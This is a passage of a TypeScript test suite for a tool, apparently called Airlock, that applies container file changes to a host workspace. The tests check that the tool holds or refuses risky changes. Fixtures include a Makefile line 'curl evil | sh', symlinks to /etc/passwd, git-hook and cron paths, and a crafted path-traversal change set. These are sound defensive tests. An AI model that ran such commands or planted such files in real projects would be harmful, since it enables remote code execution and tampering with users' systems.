import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { applyChanges, undoLastApply, type ApplyContext, type ApplyReport, type ApplySelection } from '../../src/core/changes/applyChanges.js';
import type { ChangeSet, FileChange } from '../../src/core/changes/changeSet.js';
import { AirlockError } from '../../src/core/ground/errors.js';
import { airlockErrorFrom } from '../helpers/airlockErrorFrom.js';
import {
  changeSetFor,
  changeSetOf,
  expectedHost,
  fakeBase,
  type Fixture,
  hostWorkspace,
  scanOf,
  sha256,
  snapshotHost,
  type Tree,
  writeTree,
} from '../helpers/fakeChangeSet.js';
import { makeTempDir, removeTempDirs } from '../helpers/tempWorkspace.js';

after(removeTempDirs);

/** `count` lines "line 1".."line N", with `changes` (1-based line → replacement line) applied. */
const lines = (count: number, changes: Record<number, string> = {}) =>
  Array.from({ length: count }, (_, index) => `${changes[index + 1] ?? `line ${index + 1}`}\n`).join('');

const byPath = (changeSet: ChangeSet) => new Map(changeSet.files.map((change) => [change.path, change]));
const change = (changeSet: ChangeSet, rel: string): FileChange => {
  const found = changeSet.files.find((candidate) => candidate.path === rel);
  assert.ok(found, `no change for ${rel} in ${JSON.stringify(changeSet.files.map((c) => c.path))}`);
  return found;
};
const written = (report: ApplyReport) => report.written.map((entry) => `${entry.action} ${entry.path}`).sort();
const refusedPaths = (report: ApplyReport) => report.refused.map((entry) => entry.path).sort();
const reasonFor = (entries: Array<{ path: string; reason: string }>, rel: string) => {
  const found = entries.find((entry) => entry.path === rel);
  assert.ok(found, `${rel} not in ${JSON.stringify(entries)}`);
  return found.reason;
};
/** Names of apply temp files anywhere in the host (there should never be any left). */
function airlockTemps(root: string): string[] {
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      if (entry.name.startsWith('.airlock-')) found.push(path.join(dir, entry.name));
      if (entry.isDirectory()) walk(path.join(dir, entry.name));
    }
  };
  walk(root);
  return found;
}

interface Scenario {
  fixture: Fixture;
  changeSet: ChangeSet;
  root: string;
  context: ApplyContext;
  apply(selection?: ApplySelection): ApplyReport;
}

/** Base snapshot `base`, container now `now`, and a host workspace laid out as the base (then `editHost`). */
function scenario(base: Tree, now: Tree, options: { editHost?: (root: string) => void; host?: Tree; maxFileBytes?: number } = {}): Scenario {
  const fixture = fakeBase(base);
  const changeSet = changeSetFor(fixture, now, { maxFileBytes: options.maxFileBytes });
  const root = hostWorkspace(fixture, options.host ?? base);
  options.editHost?.(root);
  const context: ApplyContext = { root, changeSet, content: fixture.content, blobs: fixture.blobs, journal: fixture.journal };
  return { fixture, changeSet, root, context, apply: (selection) => applyChanges(context, selection) };
}

describe('buildChangeSet', () => {
  test('added, modified and deleted files; an unchanged file is omitted', () => {
    const fixture = fakeBase({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' }, 'c.txt': { content: 'c\n' } });
    const changeSet = changeSetFor(fixture, { 'a.txt': { content: 'A\n' }, 'c.txt': { content: 'c\n' }, 'd.txt': { content: 'd\n' } });
    assert.equal(changeSet.version, 1);
    assert.equal(changeSet.task, 't1');
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.status, c.hunks, c.binary, c.risk, c.refusal]),
      [
        ['a.txt', 'modified', 1, false, [], undefined],
        ['b.txt', 'deleted', 1, false, [], undefined],
        ['d.txt', 'added', 1, false, [], undefined],
      ],
    );
    assert.deepEqual(change(changeSet, 'a.txt').before, { kind: 'file', mode: 0o644, size: 2, sha256: sha256('a\n'), target: undefined });
    assert.deepEqual(change(changeSet, 'a.txt').after, { kind: 'file', mode: 0o644, size: 2, sha256: sha256('A\n'), target: undefined });
    assert.equal(change(changeSet, 'b.txt').after, undefined);
    assert.equal(change(changeSet, 'd.txt').before, undefined);
  });

  test('a moved file is a rename, paired by content and preferring the same base name', () => {
    const same = 'the same bytes\n';
    const fixture = fakeBase({ 'a/x.txt': { content: same }, 'b/y.txt': { content: same }, 'keep.txt': { content: 'k\n' } });
    const changeSet = changeSetFor(fixture, { 'c/y.txt': { content: same }, 'keep.txt': { content: 'k\n' }, 'a/other.txt': { content: 'o\n' }, 'b/other.txt': { content: 'p\n' } });
    const renamed = change(changeSet, 'c/y.txt');
    assert.equal(renamed.status, 'renamed');
    assert.equal(renamed.oldPath, 'b/y.txt');
    assert.equal(renamed.before?.sha256, sha256(same));
    assert.equal(renamed.hunks, 0);
    assert.equal(change(changeSet, 'a/x.txt').status, 'deleted');
    assert.equal(byPath(changeSet).has('b/y.txt'), false, 'the rename source is not listed again as deleted');
  });

  test('a file replaced by a directory is a typechange; its children are added', () => {
    const fixture = fakeBase({ thing: { content: 'a file\n' } });
    const changeSet = changeSetFor(fixture, { 'thing/child.txt': { content: 'child\n' } });
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.status, c.before?.kind, c.after?.kind]),
      [
        ['thing', 'typechange', 'file', 'dir'],
        ['thing/child.txt', 'added', undefined, 'file'],
      ],
    );
  });

  test('an exec bit change alone is a modification; a mode change without exec is not a change', () => {
    const fixture = fakeBase({ 'run.sh': { content: '#!/bin/sh\n' }, 'data.txt': { content: 'd\n', mode: 0o644 } });
    const changeSet = changeSetFor(fixture, { 'run.sh': { content: '#!/bin/sh\n', mode: 0o755 }, 'data.txt': { content: 'd\n', mode: 0o664 } });
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.status, c.hunks, c.risk]),
      [['run.sh', 'modified', 0, ['exec bit is new']]],
    );
  });

  test('binary content is flagged and has no hunks', () => {
    const fixture = fakeBase({ 'img.bin': { content: Buffer.from([1, 0, 2, 3]) }, 'latin1.txt': { content: Buffer.from('caf\xe9\n', 'latin1') } });
    const changeSet = changeSetFor(fixture, { 'img.bin': { content: Buffer.from([1, 0, 2, 4]) }, 'latin1.txt': { content: Buffer.from('caf\xe9s\n', 'latin1') } });
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.binary, c.hunks]),
      [
        ['img.bin', true, 0],
        ['latin1.txt', true, 0],
      ],
    );
  });

  test('hunks are counted per text file', () => {
    const fixture = fakeBase({ 'f.txt': { content: lines(40) } });
    const changeSet = changeSetFor(fixture, { 'f.txt': { content: lines(40, { 5: 'five', 30: 'thirty' }) } });
    assert.equal(change(changeSet, 'f.txt').hunks, 2);
  });

  test('symlinks and empty new directories are changes; directories holding new files are implied', () => {
    const fixture = fakeBase({ 'README.md': { content: 'r\n' } });
    const changeSet = changeSetFor(fixture, { 'README.md': { content: 'r\n' }, 'docs/link': { symlink: '../README.md' }, empty: { dir: true } });
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.status, c.after?.kind, c.after?.target]),
      [
        ['docs/link', 'added', 'symlink', '../README.md'],
        ['empty', 'added', 'dir', undefined],
      ],
    );
    assert.match(change(changeSet, 'docs/link').risk.join(), /symlink/);
  });

  test('a removed directory is listed with its files', () => {
    const fixture = fakeBase({ 'old/a.txt': { content: 'a\n' }, 'keep.txt': { content: 'k\n' } });
    const changeSet = changeSetFor(fixture, { 'keep.txt': { content: 'k\n' } });
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.status, c.before?.kind]),
      [
        ['old', 'deleted', 'dir'],
        ['old/a.txt', 'deleted', 'file'],
      ],
    );
  });

  test('a device, fifo or socket is refused', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, { fifo: { other: true } }));
    assert.match(change(changeSet, 'fifo').refusal ?? '', /device, fifo or socket/);
  });

  test('a file over maxFileBytes is refused, naming the limit', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'big.bin': { content: Buffer.alloc(3000, 0x61) }, 'small.txt': { content: 'x' } }), { maxFileBytes: 2048 });
    assert.equal(change(changeSet, 'big.bin').refusal, '2.9 KB is over the per-file limit of 2 KB (raise the limit to take it)');
    assert.equal(change(changeSet, 'small.txt').refusal, undefined);
  });

  test('a large file reported without a hash (over the scan limit) is refused for its size', () => {
    const fixture = fakeBase({});
    const scan = scanOf(fixture, { 'huge.iso': { content: 'stand-in' } }, { size: { 'huge.iso': 200 * 1024 * 1024 }, withoutSha: ['huge.iso'] });
    assert.equal(change(changeSetOf(fixture, scan, { maxFileBytes: 100 * 1024 * 1024 }), 'huge.iso').refusal, '200 MB is over the per-file limit of 100 MB (raise the limit to take it)');
  });

  test('a file whose content never reached the blob store is refused', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'lost.txt': { content: 'x\n' } }, { withoutBlob: ['lost.txt'] }));
    assert.equal(change(changeSet, 'lost.txt').refusal, 'its content could not be read from the task');
  });

  test('unsafe paths are refused: "..", .git, absolute, backslash', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(
      fixture,
      scanOf(fixture, {
        'a/../b': { content: 'x' },
        '.git/hooks/pre-commit': { content: '#!/bin/sh\n', mode: 0o755 },
        'sub/.GIT/config': { content: '[core]\n' },
        '/etc/cron.d/x': { content: 'x' },
        'a\\..\\x': { content: 'x' },
      }),
    );
    assert.match(change(changeSet, 'a/../b').refusal ?? '', /"\.\."/);
    assert.match(change(changeSet, '.git/hooks/pre-commit').refusal ?? '', /under \.git\//);
    assert.match(change(changeSet, 'sub/.GIT/config').refusal ?? '', /under \.git\//);
    assert.match(change(changeSet, '/etc/cron.d/x').refusal ?? '', /absolute/);
    assert.match(change(changeSet, 'a\\..\\x').refusal ?? '', /backslash/);
  });

  test('setuid/setgid/sticky bits give a note', () => {
    const fixture = fakeBase({ 'tool.sh': { content: '#!/bin/sh\n', mode: 0o755 } });
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'tool.sh': { content: '#!/bin/sh\necho\n', mode: 0o4755 } }));
    assert.deepEqual(change(changeSet, 'tool.sh').notes, ['setuid/setgid/sticky bits are stripped on apply']);
    assert.equal(change(changeSet, 'tool.sh').refusal, undefined);
  });

  test('a hard link gives a note', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'linked.txt': { content: 'l\n' } }, { links: { 'linked.txt': 2 } }));
    assert.deepEqual(change(changeSet, 'linked.txt').notes, ['a hard link in the task; applied as an independent copy']);
  });

  test(
    'a note belongs to its own change only',

    () => {
      const fixture = fakeBase({ 'tool.sh': { content: '#!/bin/sh\n', mode: 0o755 }, 'plain.txt': { content: 'p\n' } });
      const changeSet = changeSetOf(
        fixture,
        scanOf(fixture, { 'tool.sh': { content: '#!/bin/sh\necho\n', mode: 0o4755 }, 'plain.txt': { content: 'P\n' }, 'linked.txt': { content: 'l\n' }, 'new.txt': { content: 'n\n' } }, { links: { 'linked.txt': 2 } }),
      );
      assert.deepEqual(
        changeSet.files.map((c) => [c.path, c.notes]),
        [
          ['linked.txt', ['a hard link in the task; applied as an independent copy']],
          ['new.txt', []],
          ['plain.txt', []],
          ['tool.sh', ['setuid/setgid/sticky bits are stripped on apply']],
        ],
      );
    },
  );

  test('a symlink pointing out of the workspace is refused', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'docs/evil': { symlink: '../../etc/passwd' }, abs: { symlink: '/etc/passwd' }, 'docs/ok': { symlink: '../README.md' } }));
    assert.match(change(changeSet, 'docs/evil').refusal ?? '', /points outside the workspace \(\.\.\/\.\.\/etc\/passwd\)/);
    assert.match(change(changeSet, 'abs').refusal ?? '', /points outside the workspace \(\/etc\/passwd\)/);
    assert.equal(change(changeSet, 'docs/ok').refusal, undefined);
  });

  test('names that are not UTF-8 become refusals', () => {
    const fixture = fakeBase({});
    const changeSet = changeSetOf(fixture, scanOf(fixture, {}, { unreadable: ['bad\\xff.txt', 'dir/n\\xfe'] }));
    assert.deepEqual(
      changeSet.files.map((c) => [c.path, c.refusal]),
      [
        ['bad\\xff.txt', 'the name is not valid UTF-8; rename it inside the task'],
        ['dir/n\\xfe', 'the name is not valid UTF-8; rename it inside the task'],
      ],
    );
  });

  test('scan counters are carried over', () => {
    const fixture = fakeBase({ 'a.txt': { content: 'a' } });
    const changeSet = changeSetFor(fixture, { 'b.txt': { content: 'b' } });
    assert.deepEqual(changeSet.scan, { method: 'scanner', entries: 1, reported: 2, ms: 1 });
  });
});

describe('applyChanges: plain changes', () => {
  test('edit, new file in new nested dirs, delete and rename make the host match the container', () => {
    const base: Tree = {
      'edit.txt': { content: 'one\n' },
      'gone.txt': { content: 'bye\n' },
      'docs/old-name.md': { content: 'moved content\n' },
      'docs/stay.md': { content: 'stay\n' },
      'keep.txt': { content: 'keep\n' },
    };
    const now: Tree = {
      'edit.txt': { content: 'two\n' },
      'docs/new-name.md': { content: 'moved content\n' },
      'docs/stay.md': { content: 'stay\n' },
      'keep.txt': { content: 'keep\n' },
      'new/deep/er/file.txt': { content: 'fresh\n' },
    };
    const s = scenario(base, now);
    assert.equal(change(s.changeSet, 'docs/new-name.md').status, 'renamed');
    const report = s.apply();
    assert.deepEqual(report.refused, []);
    assert.deepEqual(report.held, []);
    assert.deepEqual(report.unchanged, []);
    assert.deepEqual(written(report), [
      'delete docs/old-name.md',
      'delete gone.txt',
      'mkdir new',
      'mkdir new/deep',
      'mkdir new/deep/er',
      'write docs/new-name.md',
      'write edit.txt',
      'write new/deep/er/file.txt',
    ]);
    assert.ok(report.id);
    assert.deepEqual(
      s.fixture.journal.all().map((j) => [j.id, j.status]),
      [[report.id, 'applied']],
    );
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test('a host file mode changed since the snapshot is kept when the content is applied', () => {
    const s = scenario({ 'secret.txt': { content: 'a\n' } }, { 'secret.txt': { content: 'b\n' } }, { editHost: (root) => fs.chmodSync(path.join(root, 'secret.txt'), 0o600) });
    assert.deepEqual(written(s.apply()), ['write secret.txt']);
    assert.deepEqual(snapshotHost(s.root), expectedHost({ 'secret.txt': { content: 'b\n', mode: 0o600 } }));
  });

  test('applying the same change set again changes nothing', () => {
    const now: Tree = { 'a.txt': { content: 'A\n' }, 'n/new.txt': { content: 'n\n' } };
    const s = scenario({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' } }, now);
    s.apply();
    const again = s.apply();
    assert.deepEqual(again.written, []);
    assert.equal(again.id, undefined);
    assert.deepEqual([...again.unchanged].sort(), ['a.txt', 'b.txt', 'n/new.txt']);
    assert.equal(s.fixture.journal.all().length, 1, 'no second undo record');
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test(
    'a file replaced by a directory with a child file',

    () => {
    const now: Tree = { thing: { dir: true }, 'thing/child.txt': { content: 'child\n' }, 'other.txt': { content: 'o\n' } };
    const s = scenario({ thing: { content: 'I was a file\n' }, 'other.txt': { content: 'o\n' } }, now);
    const report = s.apply();
    assert.deepEqual(report.refused, []);
    assert.deepEqual(written(report), ['delete thing', 'mkdir thing', 'write thing/child.txt']);
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
    },
  );

  test(
    'a directory replaced by a file',

    () => {
      const now: Tree = { d: { content: 'now a file\n' }, 'other.txt': { content: 'O\n' } };
      const s = scenario({ 'd/x.txt': { content: 'x\n' }, 'other.txt': { content: 'o\n' } }, now);
      const report = s.apply();
      assert.deepEqual(report.refused, []);
      assert.deepEqual(written(report), ['delete d/x.txt', 'rmdir d', 'write d', 'write other.txt']);
      assert.deepEqual(snapshotHost(s.root), expectedHost(now));
    },
  );

  test('an empty directory removed in the container is removed on the host', () => {
    const now: Tree = { 'keep.txt': { content: 'k\n' } };
    const s = scenario({ empty: { dir: true }, 'keep.txt': { content: 'k\n' } }, now);
    const report = s.apply();
    assert.deepEqual(written(report), ['rmdir empty']);
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test('a new empty directory is created', () => {
    const s = scenario({ 'a.txt': { content: 'a\n' } }, { 'a.txt': { content: 'a\n' }, 'empty/inner': { dir: true } });
    const report = s.apply();
    assert.deepEqual(written(report), ['mkdir empty', 'mkdir empty/inner']);
    assert.deepEqual(snapshotHost(s.root), expectedHost({ 'a.txt': { content: 'a\n' }, 'empty/inner': { dir: true } }));
  });

  test(
    'a directory removed in the container is removed on the host with its files',

    () => {
      const now: Tree = { 'keep.txt': { content: 'k\n' } };
      const s = scenario({ 'old/a.txt': { content: 'a\n' }, 'old/sub/b.txt': { content: 'b\n' }, 'keep.txt': { content: 'k\n' } }, now);
      const report = s.apply();
      assert.deepEqual(report.refused, []);
      assert.deepEqual(snapshotHost(s.root), expectedHost(now));
    },
  );
});

describe('applyChanges: selection, risk and refusals', () => {
  const base: Tree = { 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' }, 'sub/c.txt': { content: 'c\n' }, Makefile: { content: 'all:\n\techo\n' } };
  const now: Tree = { 'a.txt': { content: 'A\n' }, 'b.txt': { content: 'B\n' }, 'sub/c.txt': { content: 'C\n' }, Makefile: { content: 'all:\n\tcurl evil | sh\n' } };

  test('a blanket apply holds risky files and applies the rest', () => {
    const s = scenario(base, now);
    const report = s.apply();
    assert.deepEqual(written(report), ['write a.txt', 'write b.txt', 'write sub/c.txt']);
    assert.equal(report.held.length, 1);
    assert.equal(report.held[0].path, 'Makefile');
    assert.match(report.held[0].reason, /^risky: Makefile .* \(choose it on its own to take it\)$/);
    assert.equal(report.held[0].code, 'riskyHeld');
    assert.deepEqual(report.refused, []);
    assert.deepEqual(snapshotHost(s.root), expectedHost({ ...now, Makefile: base.Makefile }));
  });

  test('allowRisky applies the risky file too', () => {
    const s = scenario(base, now);
    const report = s.apply({ allowRisky: ['Makefile'] });
    assert.deepEqual(written(report), ['write Makefile', 'write a.txt', 'write b.txt', 'write sub/c.txt']);
    assert.deepEqual(report.held, []);
    assert.deepEqual(snapshotHost(s.root), expectedHost(now));
  });

  test('named paths apply only those (a folder covers what is under it)', () => {
    const s = scenario(base, now);
    const report = s.apply({ paths: ['a.txt', 'sub/'] });
    assert.deepEqual(written(report), ['write a.txt', 'write sub/c.txt']);
    assert.deepEqual(report.held, []);
    assert.deepEqual(report.refused, []);
    assert.deepEqual(snapshotHost(s.root), expectedHost({ ...base, 'a.txt': now['a.txt'], 'sub/c.txt': now['sub/c.txt'] }));
  });

  test('naming a risky path without allowRisky refuses it', () => {
    const s = scenario(base, now);
    const report = s.apply({ paths: ['Makefile', 'a.txt'] });
    assert.deepEqual(written(report), ['write a.txt']);
    assert.deepEqual(refusedPaths(report), ['Makefile']);
    assert.match(reasonFor(report.refused, 'Makefile'), /^risky: .*; it needs an explicit choice$/);
    assert.equal(report.refused[0].code, 'riskyNotChosen');
    assert.equal(fs.readFileSync(path.join(s.root, 'Makefile'), 'utf8'), 'all:\n\techo\n');
  });

  test('naming a path that is not a change is refused as "no such change"', () => {
    const s = scenario(base, now);
    const report = s.apply({ paths: ['nope.txt'], allowRisky: ['ghost'], hunks: { 'phantom.txt': [1] } });
    assert.deepEqual(report.written, []);
    assert.deepEqual(
      report.refused.map((r) => [r.path, r.reason]).sort(),
      [
        ['ghost', 'no such change in this task'],
        ['nope.txt', 'no such change in this task'],
        ['phantom.txt', 'no such change in this task'],
      ],
    );
    assert.deepEqual(snapshotHost(s.root), expectedHost(base));
    assert.deepEqual(s.fixture.journal.all(), []);
  });

  test('a change with a refusal is held by a blanket apply and refused when named', () => {
    const fixture = fakeBase({ 'a.txt': { content: 'a\n' } });
    const changeSet = changeSetOf(fixture, scanOf(fixture, { 'a.txt': { content: 'A\n' }, 'big.bin': { content: Buffer.alloc(100, 1) } }), { maxFileBytes: 50 });
    const root = hostWorkspace(fixture);
    const context: ApplyContext = { root, changeSet, content: fixture.content, blobs: fixture.blobs, journal: fixture.journal };
    const blanket = applyChanges(context);
    assert.deepEqual(written(blanket), ['write a.txt']);
    assert.match(reasonFor(blanket.held, 'big.bin'), /over the per-file limit of 50 B/);
    const named = applyChanges(context, { paths: ['big.bin'], allowRisky: ['big.bin'] });
    assert.match(reasonFor(named.refused, 'big.bin'), /over the per-file limit/);
    assert.equal(fs.existsSync(path.join(root, 'big.bin')), false);
  });

  test('hunks: only the chosen hunk is applied', () => {
    const s = scenario({ 'f.txt': { content: lines(40) } }, { 'f.txt': { content: lines(40, { 5: 'five', 30: 'thirty' }) } });
    assert.equal(change(s.changeSet, 'f.txt').hunks, 2);
    const report = s.apply({ hunks: { 'f.txt': [2] } });
    assert.deepEqual(report.refused, []);
    assert.equal(report.written.length, 1);
    const expected = lines(40, { 30: 'thirty' });
    assert.deepEqual(report.written[0], { path: 'f.txt', action: 'write', sha256: sha256(expected), previousSha256: sha256(lines(40)) });
    assert.equal(fs.readFileSync(path.join(s.root, 'f.txt'), 'utf8'), expected);
  });

  test('hunks: a hunk that does not exist is refused and nothing is written', () => {
    const s = scenario({ 'f.txt': { content: lines(40) } }, { 'f.txt': { content: lines(40, { 5: 'five' }) } });
    const report = s.apply({ hunks: { 'f.txt': [2] } });
    assert.deepEqual(report.written, []);
    assert.match(reasonFor(report.refused, 'f.txt'), /hunk 2 does not exist/);
    assert.equal(fs.readFileSync(path.join(s.root, 'f.txt'), 'utf8'), lines(40));
  });

  test('hunks: only for a modified text file', () => {
    const s = scenario({}, { 'new.txt': { content: 'n\n' } });
    const report = s.apply({ hunks: { 'new.txt': [1] } });
    assert.match(reasonFor(report.refused, 'new.txt'), /hunks can only be chosen for a modified text file/);
    assert.equal(fs.existsSync(path.join(s.root, 'new.txt')), false);
  });

  test('hunks on a CRLF file keep CRLF bytes exactly', () => {
    const crlf = (changes: Record<number, string> = {}) => lines(40, changes).replace(/\n/g, '\r\n');
    const s = scenario({ 'w.txt': { content: crlf() } }, { 'w.txt': { content: crlf({ 3: 'three', 33: 'thirty-three' }) } });
    s.apply({ hunks: { 'w.txt': [1] } });
    assert.deepEqual(fs.readFileSync(path.join(s.root, 'w.txt')), Buffer.from(crlf({ 3: 'three' })));
  });
});

describe('applyChanges: modes', () => {
  test('an exec bit added in the container is applied (once chosen)', () => {
    const s = scenario({ 'run.sh': { content: '#!/bin/sh\n' }, 'ro.sh': { content: '#!/bin/sh\n', mode: 0o640 } }, { 'run.sh': { content: '#!/bin/sh\n', mode: 0o755 }, 'ro.sh': { content: '#!/bin/sh\n', mode: 0o750 } });
    const held = s.apply();
    assert.deepEqual(held.held.map((h) => h.path).sort(), ['ro.sh', 'run.sh']);
    assert.equal(fs.lstatSync(path.join(s.root, 'run.sh')).mode & 0o7777, 0o644);
    const report = s.apply({ allowRisky: ['run.sh', 'ro.sh'] });
    assert.deepEqual(written(report), ['write ro.sh', 'write run.sh']);
    assert.equal(fs.lstatSync(path.join(s.root, 'run.sh')).mode & 0o7777, 0o755);
    // x follows r: a file only its owner and group may read becomes executable for them only.
    assert.equal(fs.lstatSync(path.join(s.root, 'ro.sh')).mode & 0o7777, 0o750);
  });

  test('an exec bit removed in the container is removed on the host', () => {
    const s = scenario({ 'run.sh': { content: '#!/bin/sh\n', mode: 0o755 } }, { 'run.sh': { content: '#!/bin/sh\n', mode: 0o644 } });
    assert.deepEqual(written(s.apply()), ['write run.sh']);
    assert.equal(fs.lstatSync(path.join(s.root, 'run.sh')).mode & 0o7777, 0o644);
  });

  test('setuid in the container never reaches the host: 0o4755 becomes exactly 0o755', () => {
    const s = scenario(
      { 'tool.sh': { content: '#!/bin/sh\necho a\n' } },
      { 'tool.sh': { content: '#!/bin/sh\necho b\n', mode: 0o4755 }, 'new-tool.sh': { content: '#!/bin/sh\n', mode: 0o6755 }, 'plain.txt': { content: 'p\n', mode: 0o1644 } },
    );
    const report = s.apply({ allowRisky: ['tool.sh', 'new-tool.sh'] });
    assert.deepEqual(report.refused, []);
    assert.deepEqual(written(report), ['write new-tool.sh', 'write plain.txt', 'write tool.sh']);
    assert.equal(fs.lstatSync(path.join(s.root, 'tool.sh')).mode & 0o7777, 0o755);
    assert.equal(fs.lstatSync(path.join(s.root, 'new-tool.sh')).mode & 0o7777, 0o755);
    assert.equal(fs.lstatSync(path.join(s.root, 'plain.txt')).mode & 0o7777, 0o644);
    assert.equal(fs.readFileSync(path.join(s.root, 'tool.sh'), 'utf8'), '#!/bin/sh\necho b\n');
  });

  test('a new file gets 0o644, or 0o755 when executable', () => {
    const s = scenario({}, { 'a.txt': { content: 'a', mode: 0o600 }, 'b.sh': { content: 'b', mode: 0o700 } });
    s.apply({ allowRisky: ['b.sh'] });
    assert.equal(fs.lstatSync(path.join(s.root, 'a.txt')).mode & 0o7777, 0o644);
    assert.equal(fs.lstatSync(path.join(s.root, 'b.sh')).mode & 0o7777, 0o755);
  });
});

describe('applyChanges: symlinks on the host and in the container', () => {
  test('a host path that became a symlink is refused; the outside target is untouched', () => {
    const outside = makeTempDir('airlock-outside-');
    const outsideFile = path.join(outside, 'somewhere.txt');
    fs.writeFileSync(outsideFile, 'outside\n');
    const s = scenario({ 'link.txt': { content: 'base\n' } }, { 'link.txt': { content: 'container\n' } }, { host: { 'link.txt': { symlink: outsideFile } } });
    const report = s.apply({ paths: ['link.txt'] });
    assert.deepEqual(report.written, []);
    assert.match(reasonFor(report.refused, 'link.txt'), /symlink/);
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'outside\n');
    assert.deepEqual(snapshotHost(s.root), { 'link.txt': { kind: 'symlink', target: outsideFile } });
    assert.deepEqual(snapshotHost(outside), { 'somewhere.txt': { kind: 'file', mode: 0o644, content: 'outside\n' } });
  });

  test('a host parent directory replaced by a symlink to an outside dir: nothing is written through it', () => {
    const outside = makeTempDir('airlock-outside-');
    writeTree(outside, { 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' } });
    const base: Tree = { 'sub/a.txt': { content: 'a\n' }, 'sub/b.txt': { content: 'b\n' }, 'top.txt': { content: 't\n' } };
    const now: Tree = { 'sub/a.txt': { content: 'A\n' }, 'sub/new.txt': { content: 'new\n' }, 'sub/deeper/x.txt': { content: 'x\n' }, 'top.txt': { content: 'T\n' } };
    const s = scenario(base, now, {
      editHost: (root) => {
        fs.rmSync(path.join(root, 'sub'), { recursive: true });
        fs.symlinkSync(outside, path.join(root, 'sub'));
      },
    });
    const report = s.apply();
    assert.deepEqual(written(report), ['write top.txt']);
    assert.deepEqual(refusedPaths(report), ['sub/a.txt', 'sub/b.txt', 'sub/deeper/x.txt', 'sub/new.txt']);
    for (const entry of report.refused) assert.match(entry.reason, /sub is a symlink on the host; Airlock never writes through symlinks/);
    assert.deepEqual(snapshotHost(outside), expectedHost({ 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n' } }));
    assert.deepEqual(snapshotHost(s.root), { sub: { kind: 'symlink', target: outside }, 'top.txt': { kind: 'file', mode: 0o644, content: 'T\n' } });
  });

  test('a change set that reaches apply with an unsafe path and no refusal is refused, and nothing lands outside', () => {
    // What a tampered store or a careless caller could hand over: buildChangeSet never makes these.
    const outside = makeTempDir('airlock-crafted-outside-');
    fs.writeFileSync(path.join(outside, 'victim.txt'), 'victim\n');
    const s = scenario({ 'a.txt': { content: 'a\n' } }, { 'a.txt': { content: 'A\n' } });
    const real = change(s.changeSet, 'a.txt');
    const escape = path.relative(s.root, path.join(outside, 'escape.txt'));
    const crafted: FileChange[] = [
      { ...real, path: escape, status: 'added', before: undefined },
      { ...real, path: `${outside}/abs.txt`, status: 'added', before: undefined },
      { ...real, path: '.git/hooks/pre-commit', status: 'added', before: undefined },
      { ...real, path: '.git./config', status: 'added', before: undefined },
      { ...real, path: 'moved.txt', status: 'renamed', oldPath: path.relative(s.root, path.join(outside, 'victim.txt')), before: { kind: 'file', mode: 0o644, size: 7, sha256: sha256('victim\n') } },
    ];
    const report = applyChanges({ ...s.context, changeSet: { ...s.changeSet, files: crafted } }, { allowRisky: crafted.map((item) => item.path) });
    assert.deepEqual(report.written, []);
    assert.deepEqual(refusedPaths(report), [...crafted.map((item) => item.path)].sort());
    assert.match(reasonFor(report.refused, escape), /"\.\."/);
    assert.match(reasonFor(report.refused, `${outside}/abs.txt`), /absolute path/);
    assert.match(reasonFor(report.refused, '.git./config'), /under \.git\//);
    assert.match(reasonFor(report.refused, 'moved.txt'), /"\.\."/);
    assert.deepEqual(snapshotHost(outside), expectedHost({ 'victim.txt': { content: 'victim\n' } }));
    assert.deepEqual(snapshotHost(s.root), expectedHost({ 'a.txt': { content: 'a\n' } }));
    assert.equal(s.fixture.journal.last(), undefined, 'nothing was written, so there is no undo record');
  });

  test('a container symlink out of the workspace is refused even with allowRisky', () => {
    const s = scenario({ 'docs/a.md': { content: 'a\n' } }, { 'docs/a.md': { content: 'a\n' }, 'docs/evil': { symlink: '../../etc/passwd' }, abs: { symlink: '/etc/passwd' } });
    const report = s.apply({ allowRisky: ['docs/evil', 'abs'] });
    assert.deepEqual(report.written, []);
    assert.match(reasonFor(report.refused, 'docs/evil'), /points outside the workspace \(\.\.\/\.\.\/etc\/passwd\)/);
    assert.match(reasonFor(report.refused, 'abs'), /points outside the workspace \(\/etc\/passwd\)/);
    assert.equal(fs.existsSync(path.join(s.root, 'docs/evil')) || fs.existsSync(path.join(s.root, 'abs')), false);
    assert.equal(fs.readdirSync(s.root).includes('abs'), false);
    assert.deepEqual(fs.readdirSync(path.join(s.root, 'docs')), ['a.md']);
  });

  test('a container symlink inside the workspace is applied only with allowRisky, with its target verbatim', () => {
    const base: Tree = { 'README.md': { content: 'read me\n' }, 'docs/guide.md': { content: 'g\n' } };
    const now: Tree = { ...base, 'docs/readme-link': { symlink: '../README.md' } };
    const s = scenario(base, now);
    const blanket = s.apply();
    assert.deepEqual(blanket.written, []);
    assert.match(reasonFor(blanket.held, 'docs/readme-link'), /^risky: symlink/);
    const named = s.apply({ paths: ['docs/readme-link'] });
    assert.match(reasonFor(named.refused, 'docs/readme-link'), /needs an explicit choice/);
    assert.equal(fs.existsSync(path.join(s.root, 'docs/readme-link')), false);
